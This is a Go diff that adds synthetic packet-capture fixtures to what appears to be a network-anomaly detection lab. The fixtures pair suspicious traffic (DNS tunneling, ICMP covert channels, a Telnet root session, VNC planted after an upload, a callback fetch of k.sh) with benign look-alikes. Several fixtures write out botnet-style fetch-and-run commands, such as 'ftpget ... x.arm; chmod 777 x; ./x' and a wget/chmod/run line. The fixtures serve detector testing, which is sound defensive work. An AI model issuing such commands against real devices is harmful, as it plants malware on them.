@@ -3,6 +3,11 @@
 package baseline
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"net/netip"
+	"slices"
 	"time"
 
 	"ftplab/lab/internal/forge"
@@ -41,6 +46,59 @@ var nearby = []lookalike{
 		t.Segment("P.", "state?\r\n")
 		t.Peer.Segment("P.", "fine\r\n")
 	})},
+
+	{"questions about digests of files", "no-hidden-channels", IsUnusual, func(f *forge.Capture) {
+		asksCoded(f, 70, 1)
+		session1("")(f)
+	}},
+	{"the same question again and again", "no-hidden-channels", IsNormal, func(f *forge.Capture) {
+		for range 70 {
+			asksCoded(f, 1, 2)
+		}
+		session1("")(f)
+	}},
+	{"a conversation in echoes", "no-hidden-channels", "", func(f *forge.Capture) {
+		session1("")(f)
+		for i := range 9 {
+			echoes(f, aClient, "203.0.113.66", fmt.Sprint("SSH-2.0 ask ", i), fmt.Sprint("SSH-2.0 tell ", i))
+		}
+	}},
+	{"echoes that come back, some of them cut", "no-hidden-channels", IsNormal, func(f *forge.Capture) {
+		session1("")(f)
+		for i := range 9 {
+			echoes(f, aClient, aServer, fmt.Sprint("echo ", i), fmt.Sprint("echo ", i)[:5+i%2])
+		}
+	}},
+
+	{"a device that is told to fetch a program and to run it", "files-are-no-orders", "", toldTo("ftpget 192.0.2.21 x x.arm; chmod 777 x; ./x")},
+	{"a device that is told to fetch a program", "files-are-no-orders", IsNormal, toldTo("ftpget 192.0.2.21 x x.arm")},
+	{"a device that is told to fetch and to run another program", "files-are-no-orders", IsNormal, toldTo("ftpget 192.0.2.21 y y.arm; chmod 777 y; ./y")},
+	{"a page about how to fetch and to run a program", "files-are-no-orders", IsNormal, func(f *forge.Capture) {
+		dial(f, aClient, "203.0.113.80:80").Say("> GET / HTTP/1.0\n< HTTP/1.0 200 OK\n+ \n+ wget ftp://192.0.2.21/x.arm; chmod 755 x.arm; ./x.arm").Peer.Close()
+		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
+	}},
+
+	{"a server whose screen somebody looks at after an upload", "no-signs-agree", "", withScreen(aClient, aServer)},
+	{"a server nearby whose screen somebody looks at after an upload", "no-signs-agree", IsUnusual, withScreen("10.0.0.5", "10.0.0.9")},
+	{"a server whose screen somebody looks at all the time", "no-signs-agree", IsNormal, func(f *forge.Capture) {
+		looksAtScreen(f, aClient, aServer)
+		withScreen(aClient, aServer)(f)
+	}},
+
+	{"a stored script that fetches from who stored it", "programs-do-not-report", "", callsBackFor("> STOR up.cgi\n< 150 go on\n< 226 done\n> SITE CHMOD 755 up.cgi\n< 200 ok", ":80")},
+	{"a server that asks who its client is", "programs-do-not-report", IsNormal, callsBackFor("> STOR up.cgi\n< 150 go on\n< 226 done\n> SITE CHMOD 755 up.cgi\n< 200 ok", ":113")},
+	{"a server that fetches from its client, which stores pictures", "programs-do-not-report", IsNormal, callsBackFor("> STOR a.jpg\n< 150 go on\n< 226 done", ":80")},
+
+	{"a server whose logins end in an error", "server-answers", IsUnusual, func(f *forge.Capture) {
+		for range 3 {
+			f.Control().Say("< 220 ready\n> USER kim\n< 331 and?\n> PASS k1\n< 500 OOPS: cannot change directory").Peer.Close()
+		}
+	}},
+	{"a server that does not know a command, and goes on", "server-answers", IsNormal, session1("> MFMT 20150215120000 a\n< 500 what?")},
+
+	{"a release at another port", "usual-ports", IsUnusual, release(":31021", "game.nfo")},
+	{"a release at the usual port", "usual-ports", IsNormal, release(":21", "game.nfo")},
+	{"an archive in parts at another port", "usual-ports", IsNormal, release(":31021", "readme.txt")},
 
 	{"a client that greets, and a server that logs in", "ftp-at-the-ftp-port", "", func(f *forge.Capture) {
 		t := dial(f, aClient, aServer+":21")
@@ -130,5 +188,66 @@ func sentAgain(claims func(*forge.Capture)) func(*forge.Capture) {
 			again.Data[11] = 0x66
 			f.Frames = append(f.Frames, frame, again)
 		}
+	}
+}
+
+// asksCoded asks a name server for n names, each with so many labels of encoded bytes.
+func asksCoded(f *forge.Capture, n, labels int) {
+	for i := range n {
+		sum := sha256.Sum256([]byte{byte(i)})
+		question := []byte{0, byte(i), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
+		for k := range labels {
+			label := hex.EncodeToString(sum[k*8 : k*8+20])
+			question = append(append(question, byte(len(label))), label...)
+		}
+		f.UDP(aClient+":50000", "192.0.2.53:53", slices.Concat(question, []byte("\x01t\x04test\x00\x00\x01\x00\x01")))
+	}
+}
+
+// echoes is an echo request with its reply.
+func echoes(f *forge.Capture, from, to, asked, answer string) {
+	a, b := netip.MustParseAddr(from), netip.MustParseAddr(to)
+	f.IP(a, b, 1, append([]byte{8, 0, 0, 0, 0, 7, 0, 1}, asked...))
+	f.IP(b, a, 1, append([]byte{0, 0, 0, 0, 0, 7, 0, 1}, answer...))
+}
+
+// toldTo is an order by Telnet, and the download of a program after it.
+func toldTo(order string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		dial(f, "203.0.113.66", aClient+":23").Say("< login:\n> root\n< #\n> " + order).Close()
+		moves([2]string{"RETR x.arm", "\x7fELF"})(f)
+	}
+}
+
+// looksAtScreen is the beginning of a connection by VNC.
+func looksAtScreen(f *forge.Capture, client, server string) {
+	dial(f, client, server+":5900").Say("< RFB 003.008\n> RFB 003.008").Close()
+}
+
+// withScreen stores a program at a server, and looks at its screen then.
+func withScreen(client, server string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		storesBetween(client, server, "STOR winvnc.exe", "MZ\x90\x00")(f)
+		looksAtScreen(f, client, server)
+	}
+}
+
+// callsBackFor is a session, during which the server connects to a port of its client.
+func callsBackFor(lines, port string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := f.Control().Say(hello).Say(lines)
+		dial(f, aServer, aClient+port).Say("> GET /k.sh HTTP/1.0\n< HTTP/1.0 200 OK").Peer.Close()
+		t.Say(bye).Peer.Close()
+	}
+}
+
+// release fetches the parts of an archive, and a text, from a server at the given port.
+func release(port, text string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := dial(f, aClient, aServer+port).Say(hello)
+		for i, name := range []string{"game.part1.rar", "game.part2.rar", "game.part3.rar", text} {
+			move(t, 40000+i, "RETR "+name, "data of a file")
+		}
+		t.Say(bye).Peer.Close()
 	}
 }
